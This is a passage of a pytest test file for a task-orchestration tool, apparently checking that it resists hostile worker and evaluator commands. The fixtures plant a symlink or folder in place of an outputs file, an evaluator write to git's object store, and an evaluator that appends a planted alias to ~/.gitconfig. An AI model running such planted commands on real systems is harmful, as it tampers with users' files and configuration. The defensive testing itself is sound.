    found = lambda: [int(p) for p in subprocess.run(["pgrep", "-f", mark], capture_output=True, text=True).stdout.split()]  # noqa: E731
    alive = found()
    for _ in range(100):  # end them (`settled` checks no process of the campaign is left): each one's group
        if not (left := found()):
            break
        for pid in left:
            try:
                os.killpg(os.getpgid(pid), signal.SIGKILL)
            except ProcessLookupError:
                pass
        time.sleep(0.05)
    assert alive, "the run ended what a notify command sent in the background"


@pytest.mark.parametrize("planted", ['ln -s "$PWD/elsewhere.json" "$ORCH_OUTPUTS"', 'mkdir "$ORCH_OUTPUTS"'])
def test_outputs_that_are_a_link_or_a_folder_are_refused_as_not_a_file(tmp_path, orch, mode, planted):
    template = hostile.DAG.replace("    discipline: sh\n", "    discipline: sh\n    outputs: [k]\n")
    worker = f"echo a > a.txt\necho '{{\"k\": 1}}' > elsewhere.json\n{planted}\n"
    repo = hostile.campaign_repo(tmp_path, hostile.dag(mode, template=template).replace("[a.txt]", "[a.txt, elsewhere.json]"),
                                 "#!/bin/sh\n" + worker)
    result = orch("run", cwd=repo)
    text = result.out + result.err
    assert result.rc == 75, text
    assert "outputs-present: FAIL: outputs-1.json: not a file (" in text
    assert statuses(repo, orch, "hostile")["A"] != "ACCEPTED"


def test_in_the_sandbox_an_evaluator_cannot_write_the_object_store(tmp_path, orch):
    from orchestrate.workers import sandbox
    if (why := sandbox.probe()) is not None:
        pytest.skip(f"no sandbox here: {why}")
    # content of its own: `git add` of a file the index already holds, stat-clean, writes no object (this test
    # passed or failed with whether the leftover commit's index write crossed a second after the worker's)
    repo, result = _with_check(tmp_path, orch, "bwrap", "echo y > mine.txt\n",
                               "echo evaluator-$$ > mine.txt && git add mine.txt")
    assert result.rc == 75 and "evaluator(s) failed: t (rc 128" in result.out, result.out + result.err
    assert statuses(repo, orch, "hostile")["A"] != "ACCEPTED"


# A's evaluator, the first time only: plants an alias in ~/.gitconfig, then exits 127 (it could not start).
ONCE = ('if [ -e \\"$HOME/once\\" ]; then exit 0; fi; touch \\"$HOME/once\\"; '
        'printf \\"[alias]\\\\n\\\\tplanted = !echo planted\\\\n\\" >> \\"$HOME/.gitconfig\\"; exit 127')
PREFETCHED = f"""\
topic: hostile
mode: autonomous
defaults: {{max_attempts: 2, sandbox: MODE, unsandboxed: parallel}}
workers: {{sh: "./work.sh"}}
nodes:
  - {{id: A, file_surface: [a.txt], discipline: sh, evaluators: [{{name: once, run: "{ONCE}"}}]}}
  - {{id: B, file_surface: [b.txt], discipline: sh, evaluators: [{{name: ok, run: "true"}}]}}
"""


def test_a_blame_from_evaluators_run_ahead_does_not_fail_the_nodes_next_attempt(tmp_path, orch, mode, home):
    """rv35: evaluators run ahead for several landed nodes blamed each of them; a node whose own judging then
    stopped early (its evaluator could not start) kept the blame, and its next attempt, started in the same
    run after the rework answer, was failed with it."""
    repo = hostile.campaign_repo(tmp_path, PREFETCHED.replace("MODE", mode),
                                 '#!/bin/sh\necho "$ORCH_NODE" > "$(echo "$ORCH_NODE" | tr AB ab).txt"\n')
    (tmp_path / "answers.yaml").write_text("realignment: {choice: rework, note: fixed}\n")
    result = orch("run", "--no-interactive", "--jobs", "2", "--answers", tmp_path / "answers.yaml", cwd=repo)
    text = result.out + result.err
    assert (home / "once").exists() and (home / ".gitconfig").read_text() == IDENTITY, text
    starts = [e for e in journal(repo, "hostile") if e["kind"] == "result"
              and e["context"].get("effect") == "worker-start" and e["context"].get("node") == "A"]
    assert len(starts) >= 2, text
    assert not [e for e in journal(repo, "hostile") if e["kind"] == "node" and e["context"].get("node") == "A"
                and "while it ran or was judged" in e["context"].get("feedback", "")], text
